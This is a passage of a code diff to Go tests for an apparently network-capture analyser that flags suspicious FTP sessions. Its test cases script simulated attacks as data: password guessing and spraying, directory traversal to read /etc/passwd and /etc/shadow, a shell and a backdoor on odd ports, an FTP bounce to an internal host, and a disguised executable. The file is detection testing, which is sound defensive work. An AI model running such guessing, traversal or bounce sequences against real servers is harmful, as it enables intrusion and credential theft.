-			t.packet(t.ends[0], t.ends[1], 1000, 0, packet.FIN|packet.PSH|packet.URG, "")
-			t.packet(t.ends[1], t.ends[0], 0, 1001, packet.RST|packet.ACK, "")
+			t := overhear(f, aClient, addrPort(aServer, 20+i))
+			t.Segment("FPU", "")
+			t.Peer.Segment("R.", "")
 		}
 	}},
-	{"a shell at a third port", "no-third-ports", func(f *forge) {
-		t := f.control().say(hello)
-		f.dial(aServer, aClient+":4444").say("> Microsoft Windows [Version 10.0.1]\n< dir").close(opener)
-		t.say(bye).close(answerer)
+	{"a shell at a third port", "no-third-ports", func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		dial(f, aServer, aClient+":4444").Say("> Microsoft Windows [Version 10.0.1]\n< dir").Close()
+		t.Say(bye).Peer.Close()
 	}},
-	{"the port of a back door", "no-third-ports", func(f *forge) {
-		t := f.control().say(hello)
-		f.dial(aClient, aServer+":6200").say("> open\n< sesame").close(opener)
-		t.say(bye).close(answerer)
+	{"the port of a back door", "no-third-ports", func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		dial(f, aClient, aServer+":6200").Say("> open\n< sesame").Close()
+		t.Say(bye).Peer.Close()
 	}},
-	{"forty passwords, one in two minutes", "no-guessing", func(f *forge) {
+	{"forty passwords, one in two minutes", "no-guessing", func(f *forge.Capture) {
 		for i := range 40 {
-			f.control().say(fmt.Sprintf("< 220 hi\n> USER bob\n< 331 and?\n> PASS guess%d\n< 530 no", i) + bye).close(opener)
-			f.pass(2 * time.Minute)
+			f.Control().Say(fmt.Sprintf("< 220 hi\n> USER bob\n< 331 and?\n> PASS guess%d\n< 530 no", i) + bye).Close()
+			f.Pass(2 * time.Minute)
 		}
 	}},
-	{"five famous passwords, and then the right one", "no-guessing", func(f *forge) {
+	{"five famous passwords, and then the right one", "no-guessing", func(f *forge.Capture) {
 		for _, p := range []string{"123456", "admin", "password", "letmein", "qwerty"} {
-			f.control().say("< 220 hi\n> USER bob\n< 331 and?\n> PASS " + p + "\n< 530 no" + bye).close(opener)
-			f.pass(time.Minute)
+			f.Control().Say("< 220 hi\n> USER bob\n< 331 and?\n> PASS " + p + "\n< 530 no" + bye).Close()
+			f.Pass(time.Minute)
 		}
-		f.control().say("< 220 hi\n> USER bob\n< 331 and?\n> PASS monkey\n< 230 in\n> CWD ../../etc\n< 250 ok\n> RETR passwd\n< 550 no" + bye).close(opener)
+		f.Control().Say("< 220 hi\n> USER bob\n< 331 and?\n> PASS monkey\n< 230 in\n> CWD ../../etc\n< 250 ok\n> RETR passwd\n< 550 no" + bye).Close()
 	}},
-	{"one password at many servers", "no-guessing", func(f *forge) {
+	{"one password at many servers", "no-guessing", func(f *forge.Capture) {
 		for i := range 12 {
-			f.dial(aClient, fmt.Sprintf("192.0.2.%d:21", i+10)).say("< 220 hi\n> USER root\n< 331 and?\n> PASS winter\n< 530 no" + bye).close(opener)
+			dial(f, aClient, fmt.Sprintf("192.0.2.%d:21", i+10)).Say("< 220 hi\n> USER root\n< 331 and?\n> PASS winter\n< 530 no" + bye).Close()
 		}
 	}},
-	{"one user from many clients", "no-guessing", func(f *forge) {
+	{"one user from many clients", "no-guessing", func(f *forge.Capture) {
 		for i := range 12 {
-			f.dial(fmt.Sprintf("198.51.100.%d", i+10), aServer+":21").say(fmt.Sprintf("< 220 hi\n> USER root\n< 331 and?\n> PASS pw%d\n< 530 no", i) + bye).close(opener)
+			dial(f, fmt.Sprintf("198.51.100.%d", i+10), aServer+":21").Say(fmt.Sprintf("< 220 hi\n> USER root\n< 331 and?\n> PASS pw%d\n< 530 no", i) + bye).Close()
 		}
 	}},
 	{"a traversal in two steps", "no-climbing", session1("> CWD ../../etc\n< 250 ok\n> RETR passwd\n< 550 no")},
 	{"a folder of the system, and its accounts", "no-signs-agree", session1("> CWD ../../etc\n< 250 ok\n> CWD /\n< 250 ok\n> RETR etc/shadow\n< 550 no")},
-	{"an odd port and odd words", "no-signs-agree", func(f *forge) {
-		f.dial(aClient, aServer+":31337").say(hello).say("> SHELL\n< 200 ok\n> INJECT 7\n< 200 ok").say(bye).close(answerer)
+	{"an odd port and odd words", "no-signs-agree", func(f *forge.Capture) {
+		dial(f, aClient, aServer+":31337").Say(hello).Say("> SHELL\n< 200 ok\n> INJECT 7\n< 200 ok").Say(bye).Peer.Close()
 	}},
-	{"five programs, and a record stored again and again", "no-signs-agree", func(f *forge) {
-		t := f.control().say(hello)
+	{"five programs, and a record stored again and again", "no-signs-agree", func(f *forge.Capture) {
+		t := f.Control().Say(hello)
 		for _, name := range []string{"q", "w", "e", "r", "t"} {
-			t.say("> RETR " + name + ".exe\n< 150 here\n< 226 done")
+			t.Say("> RETR " + name + ".exe\n< 150 here\n< 226 done")
 		}
-		t.say(strings.Repeat("> STOR record.dat\n< 150 go on\n< 226 done\n", 5)).say(bye).close(answerer)
+		t.Say(strings.Repeat("> STOR record.dat\n< 150 go on\n< 226 done\n", 5)).Say(bye).Peer.Close()
 	}},
-	{"a program with the name of a picture, and a tool", "no-signs-agree", func(f *forge) {
+	{"a program with the name of a picture, and a tool", "no-signs-agree", func(f *forge.Capture) {
 		moved("RETR holiday.jpg", answerer, "MZ\x90")(f)
 		moved("STOR id_rsa", opener, "----")(f)
 	}},
-	{"the greeting of a worm", "no-known-exploits", func(f *forge) {
-		f.dial(aClient, aServer+":9604").say("< 220 StnyFtpd 0wns j0\n> USER 1\n< 331 x\n> PASS 1\n< 230 x").close(opener)
+	{"the greeting of a worm", "no-known-exploits", func(f *forge.Capture) {
+		dial(f, aClient, aServer+":9604").Say("< 220 StnyFtpd 0wns j0\n> USER 1\n< 331 x\n> PASS 1\n< 230 x").Close()
 	}},
-	{"nothing fits, a reply too many, and then it dies", "no-signs-agree", func(f *forge) {
-		t := f.control().say(hello).say("> TYPE I\n< 226 ok\n> PWD\n< 257 \"/\"\n< 257 \"/\"\n> SYST")
-		t.reset(answerer)
+	{"nothing fits, a reply too many, and then it dies", "no-signs-agree", func(f *forge.Capture) {
+		t := f.Control().Say(hello).Say("> TYPE I\n< 226 ok\n> PWD\n< 257 \"/\"\n< 257 \"/\"\n> SYST")
+		t.Peer.Segment("R.", "")
 	}},
-	{"a bounce to a host inside", "own-address", func(f *forge) {
-		t := f.dial("203.0.113.5", "10.0.0.2:21").say(hello).say("> PORT 10,0,0,200,31,64\n< 200 ok\n> RETR letter\n< 150 here")
-		f.download("10.0.0.2:20", "10.0.0.200:8000", opener, 500)
-		t.say("< 226 done").say(bye).close(answerer)
+	{"a bounce to a host inside", "own-address", func(f *forge.Capture) {
+		t := dial(f, "203.0.113.5", "10.0.0.2:21").Say(hello).Say("> PORT 10,0,0,200,31,64\n< 200 ok\n> RETR letter\n< 150 here")
+		download(f, "10.0.0.2:20", "10.0.0.200:8000", opener, 500)
+		t.Say("< 226 done").Say(bye).Peer.Close()
 	}},
-	{"CWD for ever", "no-floods", func(f *forge) {
-		f.overhear(aClient, aServer+":21").say("< 220 hi\n> USER a\n< 331 and?\n> PASS b\n< 230 in\n" + strings.Repeat("> CWD /\n< 250 ok\n", 10) + "> QUIT\n< 221 bye")
+	{"CWD for ever", "no-floods", func(f *forge.Capture) {
+		overhear(f, aClient, aServer+":21").Say("< 220 hi\n> USER a\n< 331 and?\n> PASS b\n< 230 in\n" + strings.Repeat("> CWD /\n< 250 ok\n", 10) + "> QUIT\n< 221 bye")
 	}},
 	{"ports used up", "announcement-used", session1(strings.Repeat("> PASV\n< 227 (192,0,2,21,100,0)\n", 30))},
 	{"a stolen download", "data-with-the-partner", ruleTests["data-with-the-partner"].breaks},
 	{"a shell on a data connection", "data-flows-one-way", ruleTests["data-flows-one-way"].breaks},
-	{"commands out of two captures", "retransmission-repeats", func(f *forge) {
-		t := f.overhear(aClient, aServer+":21")
-		t.send(opener, "USER one\r\n")
-		t.again(opener, 1001, "FEAT two\r\n")
-		t.send(answerer, "250 ok\r\n")
-		t.again(answerer, 2001, "226 no\r\n")
+	{"commands out of two captures", "retransmission-repeats", func(f *forge.Capture) {
+		t := overhear(f, aClient, aServer+":21")
+		t.Segment("P.", "USER one\r\n")
+		t.SegmentAt(-10, "P.", "FEAT two\r\n")
+		t.Peer.Segment("P.", "250 ok\r\n")
+		t.Peer.SegmentAt(-8, "P.", "226 no\r\n")
 	}},
 }
 
 // TestJudged reads how much of a capture could be judged.
 func TestJudged(t *testing.T) {
-	for want, play := range map[string]func(*forge){
+	for want, play := range map[string]func(*forge.Capture){
 		"1 of 1 session whole": session1(""),
-		"1 of 3 sessions whole, 1 in part, 1 in TLS that cannot be read; 407 bytes of the dialogue not recorded": func(f *forge) {
+		"1 of 3 sessions whole, 1 in part, 1 in TLS that cannot be read; 407 bytes of the dialogue not recorded": func(f *forge.Capture) {
 			session1("")(f)
-			inTLS(f.control().say("< 220 ready\n> AUTH TLS\n< 234 go ahead")).close(opener)
-			t := f.control().say(hello)
-			t.seq[answerer] += 407
-			t.say("< 226 done\n> PWD\n< 257 \"/\"").say(bye).close(answerer)
+			inTLS(f.Control().Say("< 220 ready\n> AUTH TLS\n< 234 go ahead")).Close()
+			t := f.Control().Say(hello)
+			t.Peer.Seq += 407
+			t.Say("< 226 done\n> PWD\n< 257 \"/\"").Say(bye).Peer.Close()
 		},
-		"0 of 1 session whole, 1 in part; 1 packet with a wrong checksum": func(f *forge) {
-			f.checksums = true
-			t := f.control().say(hello)
-			f.damage = true
-			t.say("> NOOP")
-			f.damage = false
-			t.say("< 200 ok").say(bye).close(answerer)
+		"0 of 1 session whole, 1 in part; 1 packet with a wrong checksum": func(f *forge.Capture) {
+			t := f.Control().Say(hello).Say("> NOOP")
+			spoil(f.Last(0))
+			t.Say("< 200 ok").Say(bye).Peer.Close()
 		},
-		"1 of 1 session whole; 1 packet cut short by the recorder": func(f *forge) {
-			t := f.control().say(hello).say("> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here")
-			f.snap = 200
-			f.download(aClient, aServer+":25600", answerer, 1000)
-			f.snap = 0
-			t.say("< 226 done").say(bye).close(answerer)
+		"1 of 1 session whole; 1 packet cut short by the recorder": func(f *forge.Capture) {
+			t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> LIST\n< 150 here")
+			f.Snap = 200
+			download(f, aClient, aServer+":25600", answerer, 1000)
+			f.Snap = 0
+			t.Say("< 226 done").Say(bye).Peer.Close()
 		},
-		"0 of 1 session whole, 1 in TLS that cannot be read": func(f *forge) { // by the name of the server
-			helloTo(f.dial(aClient, aServer+":2990"), "ftp2.example.test")
+		"0 of 1 session whole, 1 in TLS that cannot be read": func(f *forge.Capture) { // by the name of the server
+			helloTo(dial(f, aClient, aServer+":2990"), "ftp2.example.test")
 		},
-		"6 packets and 1 TCP connection, none of them FTP that can be read": func(f *forge) { // a web server
-			helloTo(f.dial(aClient, aServer+":443"), "ftp2.example.test")
+		"6 packets and 1 TCP connection, none of them FTP that can be read": func(f *forge.Capture) { // a web server
+			helloTo(dial(f, aClient, aServer+":443"), "ftp2.example.test")
 		},
-		"5 packets and 1 TCP connection, none of them FTP that can be read": func(f *forge) {
-			t := f.dial(aClient, aServer+":2990")
-			t.send(opener, strings.Replace(clientHello, "rrrrrrrrr", "rrrrrftp.", 1))
-			t.send(answerer, "\x16\x03\x03\x00\x02\x02\x00")
+		"5 packets and 1 TCP connection, none of them FTP that can be read": func(f *forge.Capture) {
+			t := dial(f, aClient, aServer+":2990")
+			t.Segment("P.", strings.Replace(clientHello, "rrrrrrrrr", "rrrrrftp.", 1))
+			t.Peer.Segment("P.", "\x16\x03\x03\x00\x02\x02\x00")
 		},
-		"4 packets and 1 TCP connection, none of them FTP that can be read": func(f *forge) {
-			f.dial(aClient, aServer+":80").say("> GET / HTTP/1.0")
+		"4 packets and 1 TCP connection, none of them FTP that can be read": func(f *forge.Capture) {
+			dial(f, aClient, aServer+":80").Say("> GET / HTTP/1.0")
 		},
 	} {
 		if got := forged(t, play).Judged.String(); got != want {
@@ -446,16 +444,16 @@ func TestJudged(t *testing.T) {
 // TestSiteToSite lets two servers exchange a file, as RFC 959 section 5.2 has it. Where the
 // capture shows one of the two sessions only, nobody can tell that from a bounce.
 func TestSiteToSite(t *testing.T) {
-	got := forged(t, func(f *forge) {
+	got := forged(t, func(f *forge.Capture) {
 		const other = "192.0.2.99"
-		a, b := f.control().say(hello), f.dial(aClient, other+":21").say(hello)
-		a.say("> PASV\n< 227 (192,0,2,21,100,0)")
-		b.say("> PORT 192,0,2,21,100,0\n< 200 ok")
-		a.say("> STOR x\n< 150 go on")
-		b.say("> RETR x\n< 150 here")
-		f.download(other+":20", aServer+":25600", opener, 4000)
-		b.say("< 226 done").say(bye).close(answerer)
-		a.say("< 226 done").say(bye).close(answerer)
+		a, b := f.Control().Say(hello), dial(f, aClient, other+":21").Say(hello)
+		a.Say("> PASV\n< 227 (192,0,2,21,100,0)")
+		b.Say("> PORT 192,0,2,21,100,0\n< 200 ok")
+		a.Say("> STOR x\n< 150 go on")
+		b.Say("> RETR x\n< 150 here")
+		download(f, other+":20", aServer+":25600", opener, 4000)
+		b.Say("< 226 done").Say(bye).Peer.Close()
+		a.Say("< 226 done").Say(bye).Peer.Close()
 	})
 	if got.Verdict != IsUnusual {
 		t.Errorf("got %v\nwant %s", got, IsUnusual)
@@ -488,13 +486,13 @@ func TestAttacks(t *testing.T) {
 func TestCutOff(t *testing.T) {
 	for _, test := range ordinary {
 		t.Run(test.name, func(t *testing.T) {
-			f := newForge()
+			f := forge.New()
 			test.play(f)
-			packets := split(f.file.Bytes())
+			packets := split(f.PCAP())
 			step := 1 + len(packets)/40
 			for i := 0; i <= len(packets); i += step {
 				for _, part := range [][][]byte{packets[:i], packets[i:]} {
-					file := append(bytes.Clone(f.file.Bytes()[:24]), bytes.Join(part, nil)...)
+					file := append(bytes.Clone(f.PCAP()[:24]), bytes.Join(part, nil)...)
 					e, err := gather(file)
 					if err != nil {
 						t.Fatal(err)
